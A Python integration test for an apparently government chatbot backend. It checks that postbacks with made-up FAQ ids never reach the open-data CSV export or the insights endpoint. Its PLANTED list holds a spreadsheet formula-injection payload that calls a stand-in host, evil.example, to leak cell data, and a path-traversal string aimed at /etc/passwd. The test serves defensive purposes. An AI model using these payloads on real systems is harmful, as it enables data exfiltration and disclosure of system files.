"""A signed postback cannot plant values in open data or insights (issue 25, 6)."""

from __future__ import annotations

import datetime as dt
from zoneinfo import ZoneInfo

import httpx
import pytest
from sqlalchemy import func, select

from app.conversations.models import Message
from app.services import Services
from tests.conftest import wait_for
from tests.integration.officers.conftest import new_citizen, postback

PLANTED = ['faq:=HYPERLINK("https://evil.example/?"&A1,"click")', "faq:../../../etc/passwd"]


async def _decided(services: Services, count: int) -> bool:
    async with services.sessionmaker() as session:
        decided = await session.scalar(
            select(func.count())
            .select_from(Message)
            .where(Message.direction == "in", Message.nlu.is_not(None))
        )
    return (decided or 0) >= count


@pytest.mark.parametrize(
    "database_url", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)], indirect=True
)
async def test_unknown_faq_ids_from_postbacks_are_never_published(
    client: httpx.AsyncClient, services: Services, admin_headers: dict[str, str]
) -> None:
    for data in PLANTED:  # each escalates its conversation (no such entry): one citizen each
        citizen = await new_citizen(client, services)
        await postback(services, citizen.session_id, data)
    await wait_for(lambda: _decided(services, len(PLANTED)), timeout=30)

    today = dt.datetime.now(ZoneInfo("Asia/Bangkok")).date().isoformat()
    csv_text = (
        await client.get(f"/api/admin/opendata.csv?from={today}&to={today}", headers=admin_headers)
    ).text
    assert "HYPERLINK" not in csv_text and "passwd" not in csv_text
    for line in csv_text.lstrip("\ufeff").splitlines():
        assert not [cell for cell in line.split(",") if cell.startswith(("=", "+", "-", "@"))]

    insights = (await client.get("/api/admin/insights?days=1", headers=admin_headers)).json()
    faq_ids = services.kb.store.current.entries.keys()
    assert set(insights["faq_hits"]) <= set(faq_ids)
